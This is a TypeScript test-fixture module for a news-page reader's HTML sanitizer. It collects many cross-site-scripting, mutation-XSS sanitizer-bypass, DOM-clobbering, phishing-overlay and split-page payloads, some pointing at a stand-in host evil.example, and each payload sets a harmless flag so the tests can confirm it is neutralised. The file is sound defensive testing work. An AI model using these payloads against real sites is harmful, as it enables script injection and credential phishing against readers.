/**
 * The hostile content corpus: markup a news page could carry in its article body to get script into
 * the reader. Every payload, if it ever ran, would set a flag named by its id:
 *
 *     top.__pwned = `<id>`        (or, from an opaque-origin frame, postMessage(`__pwned:<id>`, `*`))
 *
 * so a browser suite can open each page in the reader and check that `window.__pwned` stays
 * `undefined` (an element with `id="__pwned"` surviving sanitization also makes it defined: that is
 * DOM clobbering, and counts too). The Node suite (`hostile.test.ts`) checks the sanitized output
 * structurally instead (`check.ts`).
 *
 * Plain data, no Node APIs: a browser test can import this module as it is.
 *
 * Sources of the mutation-XSS strings (each payload's `source`): DOMPurify's own test fixtures
 * (cure53/DOMPurify test/fixtures/expect.mjs), the SonarSource mXSS cheat sheet
 * (SonarSource/mxss-cheatsheet examples.md: DOMPurify 2.0.0 … 3.1.7 bypasses, Bleach, closure,
 * TYPO3), html5sec.org vectors as kept in DOMPurify's suite, and the OWASP XSS filter evasion
 * cheat sheet. `alert(1)` is replaced by the flag everywhere.
 */

/** The global the payloads set. */
export const PWN_FLAG = '__pwned';

/** Script that sets the flag; no quotes at all, so it fits any attribute or URL context. */
export function pwn(id: string): string {
  return `top.${PWN_FLAG}=\`${id}\``;
}

/** The same for documents of an opaque origin (data: URLs), which cannot touch `top`. */
export function pwnFromFrame(id: string): string {
  return `try{top.${PWN_FLAG}=\`${id}\`}catch(e){parent.postMessage(\`${PWN_FLAG}:${id}\`,\`*\`)}`;
}

const b64 = (text: string): string => btoa(text);

export type PayloadCategory =
  | 'script'
  | 'handler'
  | 'url'
  | 'frame-object'
  | 'base-meta'
  | 'css'
  | 'svg-math'
  | 'clobbering'
  | 'mxss'
  | 'pipeline'
  | 'split'
  | 'metadata';

export interface HostilePayload {
  /** Kebab-case, unique; also the flag value the payload would set. */
  id: string;
  category: PayloadCategory;
  /** One line: what it tries. */
  what: string;
  /** Markup placed verbatim in the article body (or headline, see `target`). */
  html?: string;
  /**
   * Split payloads: [the end of page 1's body, the start of page 2's body]. Each half is inert on its
   * own; only a merge that joined raw HTML would form the attack (`joined()` gives the whole).
   */
  split?: readonly [string, string];
  /** Where the markup goes: the article body (default) or the headline (`<title>` and the page's `<h1>`). */
  target?: 'body' | 'title';
  /**
   * The payload opens a raw-text or foreign-content construct that legitimately swallows what follows
   * it in a browser too (an unclosed `<style>`, `<plaintext>`, …): the text after it may be lost.
   */
  swallowsRest?: boolean;
  /** Strings that must appear nowhere in the output (e.g. the host a `<base href>` tries to impose). */
  mustNotAppear?: readonly string[];
  /** Where the vector comes from. */
  source?: string;
}

const DP = 'DOMPurify test/fixtures/expect.mjs';
const SONAR = 'SonarSource mxss-cheatsheet';
const H5 = 'html5sec.org (via DOMPurify fixtures)';
const OWASP = 'OWASP XSS filter evasion cheat sheet';

function single(id: string, category: PayloadCategory, what: string, html: string, extra: Partial<HostilePayload> = {}): HostilePayload {
  return { id, category, what, html, ...extra };
}

/**
 * Build a payload list where `$PWN` (`$FRAME`) in the markup stands for the flag-setting script of
 * that payload. A row's last entry, where it has one, is where the vector comes from (a string) or
 * more of the payload (`source` among it).
 */
function list(
  category: PayloadCategory,
  rows: Array<[id: string, what: string, html: string, more?: string | Partial<HostilePayload>]>,
): HostilePayload[] {
  return rows.map(([id, what, html, more]) =>
    single(id, category, what, html.split('$PWN').join(pwn(id)).split('$FRAME').join(pwnFromFrame(id)), typeof more === 'string' ? { source: more } : more),
  );
}

const svgDoc = (id: string): string => `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwnFromFrame(id)}"><script>${pwnFromFrame(id)}</script></svg>`;
const htmlDoc = (id: string): string => `<script>${pwnFromFrame(id)}</script>`;

export const PAYLOADS: readonly HostilePayload[] = [
  // --- <script> in every spelling -------------------------------------------------------------
  ...list('script', [
    ['script-inline', 'a plain inline script', '<script>$PWN</script>'],
    ['script-upper', 'upper-case tag and type attribute', '<SCRIPT type="text/javascript">$PWN</SCRIPT>'],
    ['script-module', 'a module script', '<script type="module">$PWN</script>'],
    ['script-src-data', 'external script from a data: URL',
      `<script src="data:text/javascript,${encodeURIComponent(pwn('script-src-data'))}"></script>`],
    ['script-src-remote', 'external script from another host',
      '<script src="http://evil.example/x.js"></script>', { mustNotAppear: ['evil.example'] }],
    ['script-svg', 'script inside inline SVG', '<svg><script>$PWN</script></svg>'],
    ['script-svg-href', 'SVG script with a data: href',
      `<svg><script href="data:text/javascript,${encodeURIComponent(pwn('script-svg-href'))}"></script></svg>`],
    ['script-xlink', 'SVG script with xlink:href',
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:,${encodeURIComponent(pwn('script-xlink'))}"></script></svg>`],
    ['script-double-open', 'the <<SCRIPT> evasion', '<<SCRIPT>$PWN//<</SCRIPT>', OWASP],
    ['script-b-attr', 'a script tag inside a broken tag', '<b <script>$PWN//</script>0</script></b>', H5],
    ['script-for-event', 'IE script FOR/EVENT', '<SCRIPT FOR=document EVENT=onreadystatechange>$PWN</SCRIPT>', H5],
  ]),

  // --- inline event handlers ------------------------------------------------------------------
  ...list('handler', [
    ['img-onerror', 'img with onerror', '<img src=x onerror="$PWN">'],
    ['img-onerror-upper', 'upper-case attribute names', '<IMG SRC=x ONERROR="$PWN">'],
    ['img-onerror-slash', 'slashes instead of spaces', '<img/src="x"/onerror=$PWN>'],
    ['img-onerror-newlines', 'newlines around the attribute', '<img src=x\nonerror\n=\n"$PWN">'],
    ['img-onerror-entities', 'entity-encoded handler body',
      `<img src=x onerror="top.__pwned=&#96;img-onerror-entities&#96;">`],
    ['img-onload-valid', 'onload on an image that will load', '<img src="/img/2020wbc/imgs/share.png" onload="$PWN">'],
    ['svg-onload', 'svg onload', '<svg onload="$PWN"></svg>'],
    ['svg-slash-onload', 'svg/onload', '<svg/onload=$PWN>'],
    ['body-onload', 'a second <body> adds its handlers to the real one', '<body onload="$PWN" onpageshow="$PWN">'],
    ['details-ontoggle', 'details open ontoggle', '<details open ontoggle="$PWN"><summary>摘要</summary>展开</details>'],
    ['video-source-onerror', 'video > source onerror', '<video><source onerror="$PWN"></video>'],
    ['audio-onerror', 'audio onerror', '<audio src=x onerror="$PWN"></audio>'],
    ['input-autofocus', 'autofocus + onfocus', '<input autofocus onfocus="$PWN">'],
    ['marquee-onstart', 'marquee onstart', '<marquee onstart="$PWN">滚动</marquee>'],
    ['a-onclick', 'link with onclick and onmouseover', '<a href="#" onclick="$PWN" onmouseover="$PWN">相关链接</a>'],
    ['div-onmouseover-unknown', 'handler next to unknown attributes',
      '<div wow=removeme onmouseover="$PWN">text</div>', DP],
    ['button-onmousedown', 'button handlers', '<button remove=me onmousedown="$PWN" onclick="$PWN">按钮</button>', DP],
    ['style-onload', 'style onload', '<style onload="$PWN"></style>'],
    ['iframe-onload', 'iframe onload', '<iframe onload="$PWN"></iframe>'],
    ['svg-animate-onbegin', 'SVG animate onbegin',
      '<svg><animate onbegin="$PWN" attributeName="x" dur="1s"></animate></svg>'],
    ['svg-set-handler', 'SVG set that writes an onmouseover',
      '<svg><set attributeName="onmouseover" to="$PWN"></set><rect width="100" height="100"></rect></svg>', H5],
    ['form-onsubmit', 'form handlers', '<form onsubmit="$PWN"><input onfocus="$PWN" name="q"></form>', DP],
    ['keygen-onfocus', 'obsolete elements with handlers',
      '<keygen autofocus onfocus="$PWN"><isindex onmouseover="$PWN">', DP],
  ]),

  // --- javascript:/data:/vbscript: URLs ---------------------------------------------------------
  ...list('url', [
    ['a-javascript', 'link to javascript:', '<a href="javascript:$PWN">点此查看</a>'],
    ['a-javascript-mixed-case', 'JaVaScRiPt:', '<a href="JaVaScRiPt:$PWN">点此</a>'],
    ['a-javascript-tab', 'tab inside the scheme', '<a href="java\tscript:$PWN">点此</a>'],
    ['a-javascript-entity-tab', '&#x09; inside the scheme', '<a href="jav&#x09;ascript:$PWN">点此</a>', OWASP],
    ['a-javascript-decimal', 'fully decimal-encoded scheme',
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$PWN">点此</a>`, OWASP],
    ['a-javascript-colon-entity', '&colon; for the colon', '<a href="javascript&colon;$PWN">点此</a>'],
    ['a-javascript-leading-space', 'leading whitespace and control characters',
      '<a href=" &#14;  javascript:$PWN">点此</a>', OWASP],
    ['a-javascript-control', 'control characters inside the scheme',
      '<a href="\u0001java\u0003script:$PWN">点此</a>', DP],
    ['a-javascript-ls', 'U+2028 before the scheme', '<a href="\u2028javascript:$PWN">点此</a>', DP],
    ['a-vbscript', 'vbscript:', '<a href="vbscript:msgbox(1)">点此</a>'],
    ['a-data-html', 'link to a data:text/html document',
      `<a href="data:text/html;base64,${b64(htmlDoc('a-data-html'))}">点此</a>`],
    ['a-data-svg', 'link to a data: SVG document',
      `<a href="data:image/svg+xml;base64,${b64(svgDoc('a-data-svg'))}">点此</a>`],
    ['img-src-javascript', 'img src javascript:', '<img src="javascript:$PWN">'],
    ['img-src-data-svg', 'img src data: SVG (scripts do not run in <img>, but data: must go)',
      `<img src="data:image/svg+xml;base64,${b64(svgDoc('img-src-data-svg'))}">`],
    ['img-srcset-javascript', 'srcset candidates with javascript: and data:',
      `<img src="/img/ok.jpg" srcset="javascript:$PWN 1x, data:image/svg+xml;base64,${b64(svgDoc('img-srcset-javascript'))} 2x">`],
    ['img-srcset-nospace', 'srcset candidates separated by a bare comma',
      '<img src="/img/ok.jpg" srcset="/img/ok.jpg 1x,javascript:$PWN 2x">'],
    ['img-dynsrc-lowsrc', 'IE dynsrc/lowsrc',
      '<img dynsrc="javascript:$PWN" lowsrc="javascript:$PWN" src="/img/ok.jpg">', OWASP],
    ['picture-source-srcset', 'picture > source srcset javascript:',
      '<picture><source srcset="javascript:$PWN"><img src="/img/ok.jpg"></picture>'],
    ['form-action', 'form action javascript:',
      '<form action="javascript:$PWN"><input type="submit" value="提交"></form>'],
    ['button-formaction', 'button formaction javascript:',
      '<form id="f1"></form><button form="f1" formaction="javascript:$PWN">X</button>', DP],
    ['input-image-src', 'input type=image src javascript:', '<input type="image" src="javascript:$PWN">'],
    ['area-href', 'image map area href javascript:',
      '<map name="m1"><area href="javascript:$PWN" shape="rect" coords="0,0,10,10"></map><img usemap="#m1" src="/img/ok.jpg">'],
    ['blockquote-cite', 'cite attribute javascript:', '<blockquote cite="javascript:$PWN">引文内容在此。</blockquote>'],
    ['video-poster', 'video poster javascript:', '<video poster="javascript:$PWN"></video>', H5],
    ['table-background', 'table background javascript:',
      '<table background="javascript:$PWN"><tr><td>表格</td></tr></table>', H5],
    ['b-href', 'href on an element that has none', '<b href="javascript:$PWN" title="javascript:alert(2)">粗体</b>', DP],
    ['a-ping', 'ping to another host',
      '<a href="http://www.people.com.cn/" ping="http://evil.example/ping">人民网</a>', { mustNotAppear: ['evil.example'] }],
  ]),

  // --- frames, objects, embeds ------------------------------------------------------------------
  ...list('frame-object', [
    ['iframe-srcdoc', 'iframe srcdoc with a script',
      `<iframe srcdoc="<script>${pwn('iframe-srcdoc')}</script>"></iframe>`],
    ['iframe-srcdoc-entities', 'iframe srcdoc entity-encoded',
      `<iframe srcdoc="&lt;img src=x onerror=&quot;${pwn('iframe-srcdoc-entities')}&quot;&gt;"></iframe>`],
    ['iframe-src-javascript', 'iframe src javascript:', '<iframe src="javascript:$PWN"></iframe>'],
    ['iframe-src-data', 'iframe src data:text/html',
      `<iframe src="data:text/html;base64,${b64(htmlDoc('iframe-src-data'))}"></iframe>`],
    ['frameset-onload', 'frameset onload', '<frameset onload="$PWN"><frame src="javascript:$PWN"></frameset>', H5],
    ['object-data-javascript', 'object data javascript:', '<object data="javascript:$PWN"></object>'],
    ['object-data-html', 'object data data:text/html',
      `<object data="data:text/html;base64,${b64(htmlDoc('object-data-html'))}"></object>`, H5],
    ['object-param', 'object param with a javascript: value',
      '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="javascript:$PWN"></object>', H5],
    ['object-remote-html', 'object loading an HTML page from another host',
      '<object type="text/html" data="http://evil.example/x.html"></object>', { mustNotAppear: ['evil.example'] }],
    ['embed-javascript', 'embed src javascript:', '<embed src="javascript:$PWN">'],
    ['embed-svg', 'embed src data: SVG',
      `<embed src="data:image/svg+xml;base64,${b64(svgDoc('embed-svg'))}" type="image/svg+xml">`],
    ['applet', 'applet', '<applet code="x.class" codebase="javascript:$PWN"></applet>'],
    ['portal', 'portal element', '<portal src="javascript:$PWN"></portal>'],
  ]),

  // --- <base>, <meta refresh>, <link> -------------------------------------------------------------
  ...list('base-meta', [
    ['base-javascript', 'base href javascript: so that relative links become script',
      '<base href="javascript:$PWN//"><a href="/n2/2022/0213/other.html">本站链接</a>'],
    ['base-offsite', 'base href to another host so that relative links and images go there',
      '<base href="http://evil.example/"><a href="/n2/2022/0213/other.html">本站链接</a><img src="/img/local.jpg">', { mustNotAppear: ['evil.example'] }],
    ['meta-refresh-javascript', 'meta refresh to javascript:',
      '<meta http-equiv="refresh" content="0;url=javascript:$PWN">'],
    ['meta-refresh-data', 'meta refresh to a data: document',
      `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(htmlDoc('meta-refresh-data'))}">`],
    ['meta-refresh-offsite', 'meta refresh to another host',
      '<meta http-equiv="refresh" content="0;url=http://evil.example/">', { mustNotAppear: ['evil.example'] }],
    ['meta-csp-override', 'meta CSP that tries to loosen the policy',
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline' 'unsafe-eval'">`],
    ['link-stylesheet-javascript', 'link stylesheet javascript:', '<link rel="stylesheet" href="javascript:$PWN">'],
    ['link-import', 'HTML import / prefetch to another host',
      '<link rel="import" href="http://evil.example/x.html"><link rel="prefetch" href="http://evil.example/p">', { mustNotAppear: ['evil.example'] }],
  ]),

  // --- CSS ------------------------------------------------------------------------------------------
  ...list('css', [
    ['css-url-javascript', 'style attribute url(javascript:)', '<div style="background:url(javascript:$PWN)">样式</div>'],
    ['css-expression', 'IE expression()', '<div style="width:expression($PWN)">样式</div>'],
    ['css-expression-fullwidth', 'expression() in full-width letters',
      '<div style="x:\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E($PWN)">样式</div>', H5],
    ['css-style-element', '<style> with url(javascript:) and @import',
      `<style>@import 'javascript:${pwn('css-style-element')}';body{background:url("javascript:${pwn('css-style-element')}")}</style>`],
    ['css-behavior', 'IE behavior and -moz-binding',
      '<p style="behavior:url(#default#time2);-moz-binding:url(http://evil.example/x.xml#xss)" onbegin="$PWN">样式</p>', { mustNotAppear: ['evil.example'] }],
    ['css-link-data', 'stylesheet from data: with expression()',
      `<link rel="stylesheet" href="data:,*%7bx:expression(${encodeURIComponent(pwn('css-link-data'))})%7d">`, H5],
    ['css-overlay', 'a full-page overlay to phish (style must go)',
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff"><a href="http://evil.example/login">请重新登录</a></div>'],
    // Issue 12, item 7: presentational colours and a live region were enough to draw (and have a
    // screen reader announce) a convincing copy of the reader's failed-page notice.
    ['css-notice-imitation', "a copy of the reader's failed-page notice in bgcolor / font color / border, linking off-site",
      '<table bgcolor="#fff4e5" border="1" bordercolor="#f0b35b" width="100%"><tr><td bgcolor="#fff4e5"><font color="#663c00" face="system-ui" size="2">Page 2 of 3 could not be loaded (HTTP 503).</font> <a href="http://evil.example/retry">Retry</a></td></tr></table>'],
    ['aria-live-alert', 'role="alert" / aria-live: content announced as if it were the reader\'s own notice',
      '<div role="alert" aria-live="assertive" aria-atomic="true">第2页加载失败，请点击 <a href="http://evil.example/retry" role="button" aria-label="重试">这里</a> 重试。</div>'],
  ]),

  // --- SVG and MathML --------------------------------------------------------------------------------
  ...list('svg-math', [
    ['svg-foreignobject', 'HTML inside foreignObject',
      '<svg><foreignObject><img src=x onerror="$PWN"></foreignObject></svg>'],
    ['svg-a-xlink', 'SVG link with xlink:href javascript:',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:$PWN"><text x="0" y="20">点此</text></a></svg>'],
    ['svg-a-href', 'SVG link with href javascript:',
      '<svg><a href="javascript:$PWN"><rect width="100" height="100"></rect></a></svg>'],
    ['svg-animate-href', 'animate that writes a javascript: href',
      '<svg><a><animate attributeName="href" values="javascript:$PWN"></animate><text x="20" y="20">点此</text></a></svg>'],
    ['svg-use-data', 'use referencing a data: document',
      `<svg><use href="data:image/svg+xml;base64,${b64(svgDoc('svg-use-data'))}#x"></use></svg>`],
    ['svg-image-href', 'SVG image with a javascript: href', '<svg><image href="javascript:$PWN"></image></svg>'],
    ['svg-feimage-set', 'feImage + set of a data: SVG with a script',
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,${b64(svgDoc('svg-feimage-set'))}"></set></feImage></svg>`, H5],
    ['math-href', 'MathML href javascript:', '<math href="javascript:$PWN">CLICKME</math>', H5],
    ['math-maction', 'maction xlink:href javascript:',
      '<math><maction actiontype="statusline" xlink:href="javascript:$PWN">CLICKME<mtext>http://example.com</mtext></maction></math>', H5],
  ]),

  // --- DOM clobbering ------------------------------------------------------------------------------
  ...list('clobbering', [
    ['clobber-proto', 'id="__proto__" and name="createElement"',
      '<img id="__proto__" name="createElement" src="/img/ok.jpg"><a id="__proto__" href="#">原型</a>'],
    ['clobber-flag', 'an element named like the flag itself (window.__pwned becomes the element)',
      '<div id="__pwned">占位</div><img name="__pwned" src="/img/ok.jpg">'],
    ['clobber-form', 'form with inputs shadowing DOM properties',
      '<form name="createElement"><input name="attributes"><input name="attributes"><input name="parentNode"></form>', DP],
    ['clobber-document', 'names that shadow document properties',
      '<img name="cookie" src="/img/ok.jpg"><img name="getElementById" src="/img/ok.jpg"><a id="location" href="#x">位置</a><a id="defaultView" href="#y">视图</a>', DP],
    ['clobber-body', 'name=body, activeElement',
      '<image name="body"><image name="adoptNode">@mmrupp<image name="firstElementChild"><svg onload="$PWN">', DP],
    ['clobber-config', 'ids a reader might read as configuration',
      '<a id="config" href="javascript:$PWN">配置</a><a id="config" name="url" href="http://evil.example/">配置</a>'],
    ['fake-page-section', 'a fake page section marker inside the content',
      '<section data-page="99" data-evil="1" id="page-1">伪造的分页标记，不应被当作第99页。</section>'],
  ]),

  // --- mutation XSS: strings that bypassed sanitizers -------------------------------------------------
  ...list('mxss', [
    ['mxss-svg-p-style', 'DOMPurify 2.0.0 bypass (svg </p> style)',
      '<svg></p><style><a id="</style><img src=1 onerror=$PWN>">', `${SONAR}, Bentkowski`],
    ['mxss-form-math-mglyph', 'DOMPurify 2.0.17 bypass (form/math/mglyph)',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$PWN>', { swallowsRest: true, source: `${SONAR}, Bentkowski` }],
    ['mxss-math-table-mglyph', 'math mtext table mglyph style',
      '<math><mtext><table><mglyph><style><img src=x onerror=$PWN>', { swallowsRest: true, source: 'issue brief' }],
    ['mxss-mglyph-comment', 'DOMPurify 2.0.17 bypass (Heyes, comment in style)',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=$PWN&gt;">', `${SONAR}, Heyes`],
    ['mxss-mglyph-table-id', 'DOMPurify 2.0.17 bypass (table id)',
      '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=$PWN">', { swallowsRest: true, source: SONAR }],
    ['mxss-svg-mtext-path', 'DOMPurify 2.2.0 bypass (namespace confusion)',
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=$PWN src>">', `${SONAR}, Santos`],
    ['mxss-svg-desc-noscript', 'DOMPurify 2.2.3 bypass (desc/noscript)',
      '<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;p>&lt;/p>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=$PWN>">', { swallowsRest: true, source: `${SONAR}, Bentkowski` }],
    ['mxss-annotation-foreignobject', 'DOMPurify 3.0.8 bypass (annotation-xml/foreignobject)',
      `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='${pwn('mxss-annotation-foreignobject')}'>">`, `${SONAR}, Mizu`],
    ['mxss-deep-nesting', 'DOMPurify 3.1.0 bypass (506 nested divs flatten the tree)',
      `${'<div>'.repeat(506)}<table id="outer"><caption id="outer"><svg><desc><table id="inner"><caption id="inner"></caption></table></desc><style><a title="</style><img src onerror=${pwn('mxss-deep-nesting')}>"></a></style></svg></caption></table>${'</div>'.repeat(506)}`, `${SONAR}, icesfont`],
    ['mxss-foreignobject-table', 'DOMPurify 3.1.7 bypass (Kinugawa)',
      '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=$PWN>">.', `${SONAR}, Kinugawa`],
    ['mxss-noscript-title', 'closure-library bypass (noscript title)',
      '<noscript><p title="</noscript><img src=x onerror=$PWN>"></noscript>', `${SONAR}, Kinugawa`],
    ['mxss-noscript-style', 'Bleach 3.1.0 bypass',
      '<noscript><style></noscript><img src=x onerror=$PWN>', `${SONAR}, Nizry`],
    ['mxss-svg-style', 'Bleach 3.1.1 bypass', '<svg><style><img src=x onerror=$PWN>', `${SONAR}, Nizry`],
    ['mxss-math-style-comment', 'Bleach 3.2.3 bypass',
      '<math><p></p><style><!--</style><img src/onerror=$PWN>--></style></math>', `${SONAR}, Nizry`],
    ['mxss-comment-bang', 'TYPO3 bypass (--!> comment end)',
      '<!--a foo=--!><img src=x onerror=$PWN><!--<a>">', { swallowsRest: true, source: `${SONAR}, Klein` }],
    ['mxss-cdata-math', 'TYPO3 bypass (CDATA)', '<![CDATA[<math><img src=x onerror=$PWN>]]>', `${SONAR}, Klein`],
    ['mxss-bogus-comment', 'incorrectly opened comment <! … > (DOMPurify 3.2.3 write-up)',
      '<! foo="><img src=x onerror=$PWN>">', 'ensy.zip DOMPurify 3.2.3 bypass'],
    ['mxss-processing-instruction', '<? … > bogus comment', '<? foo="><img src=x onerror=$PWN>">', H5],
    ['mxss-chrome77-svg', 'Chrome 77 SVG textarea/title',
      '<svg></p><textarea><title><style></textarea><img src=x onerror=$PWN></style></title></svg>', DP],
    ['mxss-chrome77-math', 'Chrome 77 MathML textarea/mi',
      '<math></p><textarea><mi><style></textarea><img src=x onerror=$PWN></mi></math>', DP],
    ['mxss-svg-template', 'SVG title template style',
      '<svg></p><title><template><style></title><img src=x onerror=$PWN>', DP],
    ['mxss-attr-style', 'attribute-based: svg p style g title',
      '<svg><p><style><g title="</style><img src=x onerror=$PWN>">', DP],
    ['mxss-annotation-iframe', 'annotation-xml text/html with an iframe in a title',
      `<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;${pwn('mxss-annotation-iframe')}<!--"></style>`, { swallowsRest: true, source: DP }],
    ['mxss-xmp-svg', 'removal-based: xmp svg',
      "<xmp><svg><b><style><b title='</style><img src=x onerror=$PWN>'>", { swallowsRest: true, source: DP }],
    ['mxss-noembed-svg', 'removal-based: noembed svg',
      "<noembed><svg><b><style><b title='</style><img src=x onerror=$PWN>'>", { swallowsRest: true, source: DP }],
    ['mxss-h1-h6-math', 'HTML inside MathML (h1/h6/mglyph)',
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${pwn('mxss-h1-h6-math')}'>"></style></h1>`, DP],
    ['mxss-option-fake', 'fake-element namespace confusion (option)',
      `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${pwn('mxss-option-fake')}'>">`, DP],
    ['mxss-listing', 'listing with escaped markup', '<listing>&lt;img onerror="$PWN;//" src=x&gt;<t t></listing>', DP],
    ['mxss-id-slash', 'attribute name with a slash', "<img src=x id/=' onerror=$PWN//'>", DP],
    ['mxss-textarea-comment', 'textarea and a comment',
      '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=$PWN>-->', DP],
    ['mxss-noscript-comment', 'noscript ended inside a comment',
      '<b><noscript><!-- </noscript><img src=x onerror=$PWN --></noscript>', DP],
    ['mxss-template-nested', 'nested templates',
      '<template><s><template><s><img src=x onerror=$PWN>@shafigullin</s></template></s></template>', DP],
    ['mxss-select-template', 'template inside select',
      '<select><template><img src=x onerror=$PWN></template></select>', DP],
    ['mxss-option-style', 'style inside a broken option',
      '\u0001<option><style></option></select><b><img src=x onerror=$PWN></style></option>', DP],
    ['mxss-style-img-title', 'img inside style, ended in an attribute',
      '<style><img src="</style><img src=x onerror=$PWN//">', H5],
    ['mxss-comment-img', 'comment ended inside an attribute', '<!--<img src="--><img src=x onerror=$PWN//">', H5],
    ['mxss-svg-cdata', 'CDATA inside SVG',
      '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=$PWN//"></svg>', H5],
    ['mxss-xmp-alt', 'xmp ended inside an alt attribute',
      "<xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx onerror=$PWN//'>", H5],
    ['mxss-noframes', 'noframes ended inside an attribute',
      '<noframes><p title="</noframes><img src=x onerror=$PWN>"></noframes>'],
    ['mxss-iframe-text', 'iframe raw text ended inside an attribute',
      '<iframe><p title="</iframe><img src=x onerror=$PWN>"></iframe>'],
    ['mxss-title-in-body', 'title element in the body', '<title><img src=x onerror=$PWN></title>'],
    ['mxss-plaintext', 'plaintext swallows the rest of the page',
      '<plaintext><img src=x onerror=$PWN>', { swallowsRest: true }],
    ['mxss-unclosed-style', 'an unclosed <style> in the body',
      '<style><img src=x onerror=$PWN>', { swallowsRest: true }],
    ['mxss-unclosed-textarea', 'an unclosed <textarea> in the body',
      '<textarea><img src=x onerror=$PWN>', { swallowsRest: true }],
  ]),

  // --- aimed at this pipeline: the regex pre-strip, lazy images, srcset rewriting ---------------------
  ...list('pipeline', [
    ['strip-creates-script', 'a tag broken by a comment: the pre-parse comment strip would join it into <script>',
      '<scr<!---->ipt>$PWN</scr<!---->ipt>'],
    ['strip-nested-script', 'a script inside a script tag name: the pre-parse script strip leaves <script>',
      '<scr<script>x</script>ipt>$PWN</scr<script>x</script>ipt>'],
    ['strip-comment-attr', 'comment delimiters in two attributes: the comment strip turns attribute text into an element',
      "<div title=\"<!--\"></div><div title='--><img src=x onerror=$PWN>'></div>"],
    ['strip-comment-script', 'comment delimiters in attributes around a comment-broken script',
      "<div title=\"<!--\"></div><div title='--><scr<!---->ipt>$PWN</scr<!---->ipt>'></div>"],
    ['lazy-src-javascript', 'lazy-image attributes with javascript:/data: (the extractor promotes lazy sources)',
      `<img src="/img/blank.gif" data-src="javascript:$PWN" data-original="data:text/html;base64,${b64(htmlDoc('lazy-src-javascript'))}" file="javascript:$PWN">`],
    ['lazy-src-only', 'an image with only a javascript: lazy source',
      '<img data-src="javascript:$PWN" data-lazy-src="vbscript:msgbox(1)">'],
    ['srcset-data-commas', 'a data: URL with commas inside srcset',
      `<img src="/img/ok.jpg" srcset="data:image/svg+xml,<svg onload=${pwn('srcset-data-commas')}>,x 2x">`],
    ['next-image-javascript', 'an image "next page" link to javascript:',
      '<a href="javascript:$PWN"><img src="/img/next_page.jpg" border="0"></a>'],
    ['pager-javascript', 'a pager of javascript: links',
      '<div class="zdfy clearfix"><a href="javascript:$PWN">【2】</a></div><div id="div_currpage"><a href="javascript:$PWN" class="nextpage">下一页</a></div>'],
    ['data-attr-smuggle', 'data-* attributes with markup (only a numeric data-page may survive)',
      '<p data-html="<img src=x onerror=$PWN>" data-page="1 onerror=x" data-src="javascript:$PWN">数据属性。</p>'],
    ['svg-use-self', 'a gigantic nesting of inline SVG use (billion laughs)',
      '<svg><defs><g id="a0"><rect width="1" height="1"></rect></g><g id="a1"><use href="#a0"></use><use href="#a0"></use></g><g id="a2"><use href="#a1"></use><use href="#a1"></use></g></defs><use href="#a2"></use></svg>'],
  ]),

  // --- the headline ---------------------------------------------------------------------------------
  ...list('metadata', [
    ['title-markup', 'a headline whose text is markup (entity-encoded in the page)',
      '&lt;/title&gt;&lt;script&gt;$PWN&lt;/script&gt;&lt;img src=x onerror=$PWN&gt;', { target: 'title' }],
    ['title-raw', 'raw markup inside <title> and <h1>',
      '<img src=x onerror=$PWN><script>$PWN</script>', { target: 'title' }],
  ]),
];

/** Payloads split across two pages: each half is harmless; only raw concatenation would join them. */
export const SPLIT_PAYLOADS: readonly HostilePayload[] = (
  [
    ['split-js-href', 'javascript: URL split inside the attribute', ['<a href="java', 'script:$PWN">点击查看</a>']],
    ['split-script-tag', 'the <script> tag name split', ['<scr', 'ipt>$PWN</script>']],
    ['split-script-body', 'an unclosed <script> on page 1, its body on page 2', ['<script>', '$PWN</script>']],
    ['split-handler', 'an event-handler attribute name split', ['<img src=x on', 'error="$PWN">']],
    ['split-comment', 'a comment opened on page 1 and closed on page 2 before an img',
      ['<!--', '--><img src=x onerror=$PWN>']],
    ['split-attr-quote', 'an attribute value opened on page 1, broken out of on page 2',
      ['<p title="', '"><img src=x onerror="$PWN">']],
    ['split-svg-style', 'the DOMPurify 2.0.0 mXSS split between pages',
      ['<svg></p><style><a id="', '</style><img src=1 onerror=$PWN>">']],
    ['split-entity', 'an entity-encoded colon split', ['<a href="javascript&', 'colon;$PWN">点此</a>']],
    ['split-data-url', 'a data: URL split', ['<a href="da', `ta:text/html;base64,__B64__">点此</a>`]],
    ['split-iframe', 'an iframe tag name split', ['<ifr', 'ame srcdoc="<script>$PWN</script>"></iframe>']],
    ['split-noscript', 'the closure noscript mXSS split',
      ['<noscript><p title="', '</noscript><img src=x onerror=$PWN>">']],
  ] as Array<[string, string, [string, string]]>
).map(([id, what, [a, b]]) => {
  const fill = (s: string) => s.split('$PWN').join(pwn(id)).split('__B64__').join(b64(htmlDoc(id)));
  return { id, category: 'split' as const, what, split: [fill(a), fill(b)] as const };
});

/** Every payload, single-page and split. */
